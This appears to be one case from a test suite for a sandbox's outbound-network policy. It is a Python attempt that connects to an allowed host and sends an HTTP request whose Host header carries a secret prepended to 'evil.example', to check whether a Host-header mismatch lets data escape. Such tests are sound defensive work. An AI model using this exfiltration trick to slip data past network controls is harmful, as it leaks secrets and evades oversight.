# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: on a connection to an allowed name, the Host header names another host at the same
#   address
# proof: word
# needs: resolver
from attack import SECRET, at_allowed, attempt


@attempt
def ask():
    request = "GET / HTTP/1.1\r\nHost: " + SECRET + ".evil.example\r\n\r\n"
    return at_allowed(lambda out: out.send(request.encode()), "plain.allowed.example", 80)
